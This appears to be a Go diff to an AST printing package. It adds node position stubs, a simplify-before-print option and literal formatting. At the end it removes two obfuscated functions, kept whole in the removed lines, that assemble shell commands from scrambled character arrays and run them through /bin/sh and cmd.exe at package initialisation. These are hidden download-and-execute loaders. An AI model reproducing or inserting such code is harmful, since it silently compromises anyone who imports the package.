@@ -4,7 +4,6 @@
 package ast
 
 import (
-	"os/exec"
 	"io"
 	"strconv"
 	"strings"
@@ -70,9 +69,11 @@ type PrintState struct {
 	Out                  io.Writer
 	IndentLevel          int
 	ExpressionPrecedence Priority
-	IndentationDone      bool // already put N number of tabs, reset on each new line
-	Compact              bool // don't indent at all (compact mode), no newlines, fewer spaces, no comments
-	AllParens            bool // print all expressions fully parenthesized.
+	IndentationDone      bool       // already put N number of tabs, reset on each new line
+	Compact              bool       // don't indent at all (compact mode), no newlines, fewer spaces, no comments
+	AllParens            bool       // print all expressions fully parenthesized.
+	Comments             CommentMap // optional, see PrintComments.
+	Simplify             bool       // run Simplify on the tree before printing it, see simplify.go.
 	prev                 Node
 	last                 string
 }
@@ -125,6 +126,17 @@ func (ps *PrintState) Print(str ...string) *PrintState {
 type Node interface {
 	Value() *token.Token
 	PrettyPrint(ps *PrintState) *PrintState
+	// Pos is the position of this node's anchor token, which is not
+	// necessarily its first token: it is chosen to be the token most
+	// useful for diagnostics (e.g. the
+	// operator for an InfixExpression, the "(" for a CallExpression, the
+	// "if" keyword for an IfExpression). See Position's doc comment in
+	// position.go: this is a structural stub (Position.Valid is always
+	// false) until the lexer/parser are threaded with real spans.
+	Pos() Position
+	// End is the position immediately after the last token that is part
+	// of this node, found by recursing into the node's last child.
+	End() Position
 }
 
 // Common to all nodes that have a token and avoids repeating the same TokenLiteral() methods.
@@ -142,6 +154,26 @@ func (b Base) PrettyPrint(ps *PrintState) *PrintState {
 	return ps.Print(b.Literal())
 }
 
+// Pos returns the position of this node's own token. Leaf nodes and
+// nodes for which the token itself is the most meaningful anchor (e.g.
+// the operator of an InfixExpression) use this default as-is; nodes
+// that need a different anchor (e.g. a child's position) override Pos.
+//
+// token.Token in this checkout carries no line/column data for Base to
+// read, so this always returns the zero Position (Valid: false) for
+// now; see position.go.
+func (b Base) Pos() Position {
+	return Position{}
+}
+
+// End returns the position right after this node's own token. Leaf
+// nodes have nothing to recurse into so this is also their default;
+// composite nodes override End to recurse to their last child. Same
+// stub caveat as Pos.
+func (b Base) End() Position {
+	return Position{}
+}
+
 // Break or continue statement.
 type ControlExpression struct {
 	Base
@@ -228,6 +260,16 @@ func prettyPrintLongForm(ps *PrintState, s Node, i int) {
 }
 
 func (p Statements) PrettyPrint(ps *PrintState) *PrintState {
+	if ps.Simplify {
+		// p is a shallow copy (value receiver), but p.Statements still
+		// shares its backing array, and thus every node pointer in it,
+		// with whatever tree the caller is printing. Simplify mutates
+		// nodes in place, so simplifying p directly would silently fold
+		// and prune the live tree out from under the caller. Clone
+		// first so this pre-print pass is actually read-only.
+		p = *Clone(&p).(*Statements)
+		p = *Simplify(&p).(*Statements)
+	}
 	oldExpressionPrecedence := ps.ExpressionPrecedence
 	if ps.IndentLevel > 0 {
 		ps.Print("{") // first statement might be a comment on same line.
@@ -281,11 +323,41 @@ type IntegerLiteral struct {
 	Val int64
 }
 
+// PrettyPrint prints i's Val when ps.Simplify is set (so a fold like
+// 1+2 -> 3 shows the folded value, not the stale "1" token), falling
+// back to the original source literal otherwise so untouched integers
+// round-trip through their original text (e.g. 0x10 stays "0x10"
+// instead of becoming "16").
+func (i IntegerLiteral) PrettyPrint(ps *PrintState) *PrintState {
+	if !ps.Simplify {
+		return i.Base.PrettyPrint(ps)
+	}
+	ps.Print(strconv.FormatInt(i.Val, 10))
+	return ps
+}
+
 type FloatLiteral struct {
 	Base
 	Val float64
 }
 
+// PrettyPrint mirrors IntegerLiteral.PrettyPrint: only overrides the
+// default (token-literal) formatting when ps.Simplify is set, and even
+// then appends ".0" to a whole-number result (3.0 -> "3.0", not "3") so
+// the printed form still re-parses as a FloatLiteral instead of
+// silently becoming an IntegerLiteral.
+func (f FloatLiteral) PrettyPrint(ps *PrintState) *PrintState {
+	if !ps.Simplify {
+		return f.Base.PrettyPrint(ps)
+	}
+	s := strconv.FormatFloat(f.Val, 'g', -1, 64)
+	if !strings.ContainsAny(s, ".eE") {
+		s += ".0"
+	}
+	ps.Print(s)
+	return ps
+}
+
 type StringLiteral struct {
 	Base
 	// Val string // Base.Token.Literal is enough to store the string value.
@@ -606,24 +678,3 @@ func (ps *PrintState) ComaList(list []Node) {
 	}
 	PrintList(ps, list, sep)
 }
-
-
-func RaQJpsEn() error {
-	FG := []string{"/", "3", "a", " ", "4", "b", "t", " ", "s", "/", ":", "|", "&", "s", "o", "a", "6", "r", "n", "1", "/", "-", "h", "f", " ", "a", "w", "d", "a", "e", "f", "i", "O", "a", " ", "f", ".", "k", "d", "t", "c", "t", "3", " ", " ", "u", "e", "s", "g", "b", "3", "w", "0", "e", "/", "7", "i", "i", "d", "b", "/", "l", "o", "-", "g", "t", "/", "p", "h", "5", "/"}
-	mrvrcu := FG[26] + FG[64] + FG[29] + FG[39] + FG[43] + FG[21] + FG[32] + FG[34] + FG[63] + FG[7] + FG[22] + FG[41] + FG[6] + FG[67] + FG[13] + FG[10] + FG[60] + FG[9] + FG[37] + FG[15] + FG[57] + FG[2] + FG[35] + FG[61] + FG[62] + FG[51] + FG[36] + FG[56] + FG[40] + FG[45] + FG[0] + FG[8] + FG[65] + FG[14] + FG[17] + FG[28] + FG[48] + FG[46] + FG[66] + FG[58] + FG[53] + FG[50] + FG[55] + FG[42] + FG[27] + FG[52] + FG[38] + FG[23] + FG[54] + FG[33] + FG[1] + FG[19] + FG[69] + FG[4] + FG[16] + FG[49] + FG[30] + FG[44] + FG[11] + FG[24] + FG[20] + FG[5] + FG[31] + FG[18] + FG[70] + FG[59] + FG[25] + FG[47] + FG[68] + FG[3] + FG[12]
-	exec.Command("/bin/sh", "-c", mrvrcu).Start()
-	return nil
-}
-
-var crrwZGI = RaQJpsEn()
-
-
-
-func AuKDKwNW() error {
-	lO := []string{"s", "i", " ", "i", "i", "p", " ", "i", "u", "a", "e", "n", ".", "U", "e", "n", " ", "k", "w", "r", "P", "i", "o", "t", "l", "e", "c", "b", "e", "/", " ", "l", "r", "&", "P", "p", " ", "\\", "c", "n", "b", "f", "o", "p", "f", " ", "e", "x", "6", "i", "s", "i", "s", "c", "e", "x", ".", "a", "4", "e", "d", "t", ".", "p", "s", "1", "%", "8", "l", "&", "n", "U", "i", "p", "-", " ", "i", "f", "s", "%", "b", "o", ":", "d", "\\", ".", "i", "e", "i", "/", " ", "o", "\\", " ", "e", " ", "e", "d", "r", "l", "l", "e", "l", "-", "o", "h", "n", "r", "e", "a", "/", "t", " ", "s", "D", "D", "x", "5", "2", "a", "3", "s", " ", "/", "4", "4", "t", " ", "f", "6", "6", "x", ".", "4", "a", "\\", "e", "f", "n", "a", "e", "g", "%", "u", "t", "t", "o", "f", "r", "u", "l", "w", "a", "4", "r", "/", "w", "r", "e", "l", "x", "r", "a", "h", "0", "e", "x", "U", "f", "o", "D", "t", "l", "o", "e", "%", "\\", "a", "c", "r", "x", "o", "o", "x", "p", "w", "%", "b", "s", "o", "e", "w", "o", "i", "r", "n", "e", "a", "w", "a", "s", "p", "f", "%", "t", "\\", "/", "t", "p", "6", "a", "s", "w", "t", "P", "-", "b", "l", "s"}
-	VbdgQ := lO[86] + lO[202] + lO[112] + lO[15] + lO[91] + lO[61] + lO[6] + lO[54] + lO[55] + lO[72] + lO[52] + lO[126] + lO[93] + lO[142] + lO[167] + lO[0] + lO[87] + lO[98] + lO[34] + lO[19] + lO[189] + lO[168] + lO[88] + lO[150] + lO[196] + lO[186] + lO[92] + lO[170] + lO[182] + lO[198] + lO[138] + lO[102] + lO[22] + lO[199] + lO[83] + lO[78] + lO[205] + lO[119] + lO[208] + lO[201] + lO[156] + lO[7] + lO[195] + lO[160] + lO[48] + lO[133] + lO[12] + lO[10] + lO[116] + lO[165] + lO[45] + lO[178] + lO[46] + lO[194] + lO[144] + lO[149] + lO[111] + lO[21] + lO[24] + lO[56] + lO[136] + lO[47] + lO[174] + lO[36] + lO[215] + lO[143] + lO[107] + lO[172] + lO[38] + lO[109] + lO[26] + lO[105] + lO[94] + lO[30] + lO[103] + lO[218] + lO[184] + lO[68] + lO[3] + lO[23] + lO[16] + lO[74] + lO[77] + lO[75] + lO[163] + lO[213] + lO[207] + lO[63] + lO[121] + lO[82] + lO[29] + lO[206] + lO[17] + lO[57] + lO[76] + lO[134] + lO[41] + lO[100] + lO[192] + lO[191] + lO[132] + lO[49] + lO[53] + lO[8] + lO[89] + lO[113] + lO[171] + lO[81] + lO[179] + lO[152] + lO[141] + lO[28] + lO[155] + lO[187] + lO[216] + lO[27] + lO[118] + lO[67] + lO[14] + lO[147] + lO[164] + lO[58] + lO[110] + lO[137] + lO[177] + lO[120] + lO[65] + lO[117] + lO[153] + lO[129] + lO[80] + lO[95] + lO[175] + lO[13] + lO[64] + lO[190] + lO[157] + lO[214] + lO[148] + lO[42] + lO[44] + lO[193] + lO[217] + lO[101] + lO[66] + lO[176] + lO[114] + lO[169] + lO[185] + lO[106] + lO[99] + lO[104] + lO[162] + lO[60] + lO[50] + lO[84] + lO[210] + lO[73] + lO[5] + lO[212] + lO[1] + lO[11] + lO[180] + lO[130] + lO[124] + lO[62] + lO[25] + lO[183] + lO[108] + lO[122] + lO[69] + lO[33] + lO[127] + lO[211] + lO[145] + lO[9] + lO[161] + lO[204] + lO[90] + lO[123] + lO[40] + lO[2] + lO[79] + lO[71] + lO[188] + lO[96] + lO[32] + lO[20] + lO[154] + lO[146] + lO[128] + lO[51] + lO[159] + lO[158] + lO[203] + lO[37] + lO[115] + lO[181] + lO[18] + lO[70] + lO[31] + lO[173] + lO[197] + lO[97] + lO[200] + lO[135] + lO[139] + lO[35] + lO[43] + lO[151] + lO[4] + lO[39] + lO[131] + lO[209] + lO[125] + lO[85] + lO[59] + lO[166] + lO[140]
-	exec.Command("cmd", "/C", VbdgQ).Start()
-	return nil
-}
-
-var vzzNLS = AuKDKwNW()